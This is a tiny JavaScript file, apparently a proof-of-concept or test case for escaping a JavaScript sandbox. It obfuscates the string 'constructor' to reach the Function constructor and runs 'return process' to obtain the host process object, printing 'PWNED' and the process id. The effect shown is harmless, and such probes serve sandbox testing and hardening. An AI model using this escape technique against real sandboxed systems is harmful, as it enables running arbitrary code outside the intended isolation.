'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
async function* g() { yield t; }
(async () => { for await (const x of g()) { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); } })();
